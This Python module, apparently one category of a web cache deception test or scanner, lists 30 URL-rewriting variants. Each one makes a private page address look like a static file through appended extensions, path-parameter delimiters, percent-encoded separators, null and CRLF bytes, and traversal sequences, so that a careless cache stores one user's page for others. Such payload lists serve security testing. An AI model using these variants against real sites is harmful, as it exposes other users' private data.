"""T3: addresses that look like files, so that a careless cache stores somebody's page."""

from __future__ import annotations

from collections.abc import Callable

# 30 ways to make a personal address look like something that everybody may have.
VARIANTS: tuple[Callable[[str], str], ...] = (
    lambda path: f"{path}x.css",
    lambda path: f"{path}x.js",
    lambda path: f"{path}x.jpg",
    lambda path: f"{path}a/b/x.png",
    lambda path: f"{path.rstrip('/')}.css",
    lambda path: f"{path.rstrip('/')}.css/",
    lambda path: f"{path.rstrip('/')};x.css",
    lambda path: f"{path};x.css",
    lambda path: f"{path};a=b/x.css",
    lambda path: f"{path.rstrip('/')}%3bx.css",
    lambda path: f"{path.rstrip('/')}%2fx.css",
    lambda path: f"{path.rstrip('/')}%252fx.css",
    lambda path: f"{path}%3fx.css",
    lambda path: f"{path}%23x.css",
    lambda path: f"{path}%00.css",
    lambda path: f"{path}%0ax.css",
    lambda path: f"{path}%0d%0ax.css",
    lambda path: f"{path}%20.css",
    lambda path: f"{path}%09.css",
    lambda path: f"{path}.css",
    lambda path: f"{path}%5cx.css",
    lambda path: f"{path}..%2fx.css",
    lambda path: f"/static/..%2f{path.lstrip('/')}x.css",
    lambda path: f"/x.css/..%2f{path.lstrip('/')}",
    lambda path: f"/static/x.css%2f..%2f..{path}",
    lambda path: f"/{path}/x.css",
    lambda path: f"{path}x.CSS",
    lambda path: f"{path}x.css.",
    lambda path: f"{path}x%2ecss",
    lambda path: f"{path}%c3%a4.css",
)
